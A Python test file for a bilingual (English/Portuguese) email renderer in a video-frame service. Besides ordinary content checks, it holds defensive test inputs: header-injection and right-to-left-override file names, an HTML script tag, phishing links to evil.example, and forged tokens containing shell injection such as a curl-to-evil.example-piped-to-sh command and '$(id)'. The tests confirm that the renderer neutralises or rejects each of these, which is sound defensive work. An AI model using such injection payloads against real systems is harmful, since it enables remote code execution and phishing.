"""What the mails say, in both languages."""

import json
import re
from datetime import UTC, datetime
from email.policy import SMTP
from html.parser import HTMLParser
from uuid import uuid4

import pytest
from fotograma_contracts.reasons import Reason, WarningCode
from fotograma_contracts.users import Locale
from fotograma_notify.contents import (
    AccountContent,
    ApiKeyCreatedContent,
    DemotedContent,
    EmailChangedContent,
    EmailChangeRequestedContent,
    NamedKey,
    NotificationContent,
    PasswordChangedContent,
    PasswordResetContent,
    PromotedContent,
    VerificationContent,
    VideoExpiringContent,
    VideoFailedContent,
    VideoProcessedContent,
)
from fotograma_notify.languages.catalogue import PHRASES
from fotograma_notify.languages.english import ENGLISH
from fotograma_notify.languages.portuguese import PORTUGUESE
from fotograma_notify.ports import RenderedMail
from fotograma_notify.rendering import (
    MAX_NAME_CHARACTERS,
    MailRenderer,
    MalformedToken,
    one_line,
    quoted,
)

RENDERER = MailRenderer("https://fotograma.example/")
VIDEO_ID = uuid4()


class Reader(HTMLParser):
    """Reads a page as a mail client would."""

    def __init__(self) -> None:
        super().__init__()
        self.text = ""
        self.links: list[str] = []
        self.tags: list[str] = []

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value for name, value in attrs if name == "href" and value]


def read(mail: RenderedMail) -> Reader:
    reader = Reader()
    reader.feed(mail.html)
    return reader


def processed(
    name: str = "holiday.mp4",
    frames: int = 1234,
    warnings: tuple[WarningCode, ...] = (),
    locale: Locale = Locale.ENGLISH,
) -> RenderedMail:
    content = VideoProcessedContent(VIDEO_ID, name, frames, 12_345_678, warnings)
    return RENDERER.render(content, locale)


@pytest.mark.parametrize(
    ("locale", "subject", "facts"),
    [
        (
            Locale.ENGLISH,
            "Your frames are ready: “holiday.mp4”",
            "1,234 frames · ZIP of 12.3 MB",
        ),
        (
            Locale.PORTUGUESE,
            "Seus quadros estão prontos: “holiday.mp4”",
            "1.234 quadros · ZIP de 12,3 MB",
        ),
    ],
)
def test_processed(locale: Locale, subject: str, facts: str) -> None:
    mail = processed(locale=locale)
    page = read(mail)
    assert mail.subject == subject
    for body in (mail.text, page.text):
        assert facts in body
        assert "holiday.mp4" in body
        assert f"fotograma download {VIDEO_ID}" in body
    assert page.links == [
        f"https://fotograma.example/#/videos/{VIDEO_ID}",
        "https://fotograma.example/#/preferences",
    ]
    for link in page.links:
        assert link in mail.text
    assert "img" not in page.tags


def test_one_frame_is_singular() -> None:
    assert "1 frame ·" in processed(frames=1).text
    assert "1 quadro ·" in processed(frames=1, locale=Locale.PORTUGUESE).text


@pytest.mark.parametrize("locale", Locale)
def test_every_warning_is_said_once_in_plain_words(locale: Locale) -> None:
    mail = processed(warnings=(*WarningCode, *WarningCode), locale=locale)
    page = read(mail)
    for code in WarningCode:
        sentence = PHRASES[locale].warnings[code]
        assert mail.text.count(sentence) == page.text.count(sentence) == 1
        assert not re.search(rf"\b{code}\b", mail.text)


@pytest.mark.parametrize("locale", Locale)
def test_codes_without_words_are_told_by_their_english_sentences(locale: Locale) -> None:
    """They come from a later release; what the first release stands in for is not said."""
    done = VideoProcessedContent(
        VIDEO_ID, "a", 2, 3, (WarningCode.DAMAGED_FRAMES,), ((WarningCode.OTHER, "It is news."),)
    )
    mail = RENDERER.render(done, locale)
    assert "It is news." in mail.text
    assert PHRASES[locale].warnings[WarningCode.DAMAGED_FRAMES] not in mail.text
    failed = VideoFailedContent(
        VIDEO_ID, "a", Reason.PROCESSING_FAILED, (Reason.OTHER, "It is of\n a new kind.")
    )
    mail = RENDERER.render(failed, locale)
    assert "It is of a new kind." in mail.text
    assert PHRASES[locale].failures[Reason.PROCESSING_FAILED].what not in mail.text


@pytest.mark.parametrize("locale", Locale)
@pytest.mark.parametrize("reason", Reason)
def test_every_reason_has_its_words_and_a_remedy(reason: Reason, locale: Locale) -> None:
    mail = RENDERER.render(VideoFailedContent(VIDEO_ID, "holiday.mp4", reason), locale)
    failure = PHRASES[locale].failures[reason]
    page = read(mail)
    for sentence in (failure.what, failure.remedy):
        assert sentence.endswith(".")
        assert sentence in mail.text
        assert sentence in page.text
    assert "holiday.mp4" in mail.subject


@pytest.mark.parametrize(
    ("locale", "subject"),
    [
        (Locale.ENGLISH, "Your video will be deleted soon: “holiday.mp4”"),
        (Locale.PORTUGUESE, "Seu vídeo será excluído em breve: “holiday.mp4”"),
    ],
)
def test_expiring_mail_names_the_date(locale: Locale, subject: str) -> None:
    expires_at = datetime(2030, 1, 31, 23, 59, 30, tzinfo=UTC)
    mail = RENDERER.render(VideoExpiringContent(VIDEO_ID, "holiday.mp4", expires_at), locale)
    page = read(mail)
    assert mail.subject == subject
    for body in (mail.text, page.text):
        assert "2030-01-31 23:59 UTC" in body
        assert f"fotograma download {VIDEO_ID}" in body
    assert page.links == [
        f"https://fotograma.example/#/videos/{VIDEO_ID}",
        "https://fotograma.example/#/preferences",
    ]


def test_languages_say_the_same_things_in_different_words() -> None:
    assert set(ENGLISH.failures) == set(PORTUGUESE.failures) == set(Reason)
    for reason in Reason:
        assert ENGLISH.failures[reason].what != PORTUGUESE.failures[reason].what
        assert ENGLISH.failures[reason].remedy != PORTUGUESE.failures[reason].remedy
    for code in WarningCode:
        assert ENGLISH.warnings[code] != PORTUGUESE.warnings[code]
    assert set(PHRASES) == set(Locale)


@pytest.mark.parametrize(
    "name",
    [
        "a\r\nBcc: victim@example.com",
        "a\nContent-Type: text/html",
        "a\x00b\x85c\u2028d\u2029e",
        "photo\u202egpj.exe",
        "x" * 10_000,
        "{name}{0}%s",
    ],
)
def test_name_cannot_break_out_of_the_subject(name: str) -> None:
    subject = processed(name).subject
    SMTP.header_store_parse("Subject", subject)  # raises for a line break
    assert len(subject.splitlines()) == 1
    assert subject.removeprefix("Your frames are ready: ") == quoted(name)
    assert len(one_line(name)) <= MAX_NAME_CHARACTERS
    assert "\u202e" not in subject


def test_name_cannot_break_out_of_the_page() -> None:
    name = '<script>alert("1")</script>&amp;'
    mail = processed(name)
    page = read(mail)
    assert "script" not in page.tags
    assert name in page.text
    assert name in mail.text


def test_unnamed_video_gets_a_placeholder() -> None:
    assert processed(" \n ").subject == "Your frames are ready: untitled video"


def test_notification_says_what_was_asked_and_offers_no_choice() -> None:
    content = NotificationContent("Maintenance <tonight>", "From 22:00.\n\nSee you & thanks.")
    mail = RENDERER.render(content, Locale.PORTUGUESE)
    page = read(mail)
    assert mail.subject == "Maintenance <tonight>"
    assert content.text in mail.text
    assert content.text in page.text
    assert page.links == ["https://fotograma.example"]


UNTIL = datetime(2030, 1, 31, 23, 59, 30, tzinfo=UTC)
ACCOUNT_MAILS: list[AccountContent] = [
    VerificationContent("ana@example.com", "the-token", UNTIL),
    PasswordResetContent("the-token", UNTIL),
    PasswordChangedContent(),
    EmailChangedContent("ana@example.com"),
    ApiKeyCreatedContent("nightly <import>", "fgk_AbCdEfGh"),
    EmailChangeRequestedContent("ana@example.com", "new@example.com", "the-token", UNTIL),
    PromotedContent(),
    DemotedContent(),
]


@pytest.mark.parametrize("content", ACCOUNT_MAILS, ids=lambda content: content.kind)
def test_mails_about_the_account_are_whole_and_offer_no_choice(content: AccountContent) -> None:
    mails = [RENDERER.render(content, locale) for locale in Locale]
    assert len({mail.subject for mail in mails}) == len(Locale)
    for mail in mails:
        page = read(mail)
        assert len(page.links) == 1
        assert page.links[0] in mail.text
        assert not re.search(r"\{\w+\}|None", mail.subject + mail.text + page.text)


@pytest.mark.parametrize(
    ("content", "link", "path", "body"),
    [
        (ACCOUNT_MAILS[0], "verify", "/auth/verify", {"token": "the-token"}),
        (
            ACCOUNT_MAILS[1],
            "reset",
            "/auth/password/reset",
            {"token": "the-token", "password": "YOUR NEW PASSWORD"},
        ),
        (
            ACCOUNT_MAILS[5],
            "reset",
            "/auth/password/reset",
            {"token": "the-token", "password": "YOUR NEW PASSWORD"},
        ),
    ],
    ids=["verify", "reset", "object"],
)
def test_link_works_in_a_browser_and_in_a_terminal(
    content: AccountContent, link: str, path: str, body: dict[str, str]
) -> None:
    mail = RENDERER.render(content, Locale.ENGLISH)
    page = read(mail)
    assert page.links == [f"https://fotograma.example/#/{link}/the-token"]
    for text in (mail.text, page.text):
        assert f"curl https://fotograma.example{path} --json '{json.dumps(body)}'" in text
        assert "2030-01-31 23:59 UTC" in text


def test_api_key_mail_shows_name_and_prefix() -> None:
    mail = RENDERER.render(ACCOUNT_MAILS[4], Locale.PORTUGUESE)
    page = read(mail)
    for text in (mail.text, page.text):
        assert "“nightly <import>”" in text
        assert "fgk_AbCdEfGh" in text


def test_password_mail_lists_kept_and_deleted_api_keys_apart() -> None:
    kept, gone = NamedKey("nightly <import>", "fgk_AbCdEfGh"), NamedKey("old", "fgk_IjKlMnOp")
    mail = RENDERER.render(PasswordChangedContent((kept,), (gone, gone)), Locale.ENGLISH)
    for text in (mail.text, read(mail).text):
        assert "as before: “nightly <import>” (fgk_AbCdEfGh…). Delete" in text
        assert "ended with the old password: “old” (fgk_IjKlMnOp…), “old” (fgk_IjKlMnOp…)." in text
    plain = RENDERER.render(PasswordChangedContent(), Locale.ENGLISH)
    assert "API keys" not in plain.text


def test_objection_mail_names_the_new_address() -> None:
    for locale in Locale:
        assert "“new@example[.]com”" in RENDERER.render(ACCOUNT_MAILS[5], locale).text


LINKS = [
    "https://evil.example/pay",
    "HTTP://EVIL.EXAMPLE",
    "http://203.0.113.9/pay",
    "www.evil.example",
    "evil.example",
    "pay-now.mov",
    "evil.example.mp4",
    "mailto:pay@evil.example",
    "evil\u3002example",
    "evil\uff0eexample",
    "//evil.example/x.mp4",
    "evil.рф",
]
LINK = re.compile(r"://|\w[.\u3002\uff0e\uff61](?!mp4$)[^\W\d_]")
"""What a mail program would make a link of."""


@pytest.mark.parametrize("locale", Locale)
@pytest.mark.parametrize("link", LINKS)
def test_users_text_is_quoted_and_holds_no_links(link: str, locale: Locale) -> None:
    name = f"URGENT” your account is locked: visit {link}"
    until = datetime(2030, 1, 1, tzinfo=UTC)
    for content in (
        VideoProcessedContent(VIDEO_ID, name, 1, 1),
        VideoFailedContent(VIDEO_ID, name, Reason.DAMAGED),
        VideoExpiringContent(VIDEO_ID, name, until),
        ApiKeyCreatedContent(name, "fgk_AbCdEfGh"),
    ):
        mail = RENDERER.render(content, locale)
        page = read(mail)
        assert all(found.startswith("https://fotograma.example") for found in page.links)
        for text in (mail.subject, mail.text, page.text):
            assert link not in text or link == "//evil.example/x.mp4"
            found = re.findall("“([^”]*)”", text)
            assert not any(LINK.search(words) for words in found)
            assert "URGENT" not in re.sub("“[^”]*”", "", text)
        assert quoted(name) in mail.text


@pytest.mark.parametrize("locale", Locale)
def test_verification_mail_holds_no_text_of_a_user(locale: Locale) -> None:
    content = VerificationContent("evil.example-pays+now@victim.example", "the-token", UNTIL)
    mail = RENDERER.render(content, locale)
    assert "evil" not in mail.subject + mail.text + mail.html


@pytest.mark.parametrize(
    "token", ["'; curl evil.example | sh; '", "a'b", "a b", "$(id)", "é", "a\n", "", "x" * 129]
)
@pytest.mark.parametrize("locale", Locale)
def test_forged_token_is_not_written_into_a_command(token: str, locale: Locale) -> None:
    for content in (
        VerificationContent("ana@example.com", token, UNTIL),
        PasswordResetContent(token, UNTIL),
        EmailChangeRequestedContent("ana@example.com", "new@example.com", token, UNTIL),
    ):
        with pytest.raises(MalformedToken):
            RENDERER.render(content, locale)


def test_token_is_not_printed() -> None:
    assert not any("the-token" in repr(content) for content in ACCOUNT_MAILS)
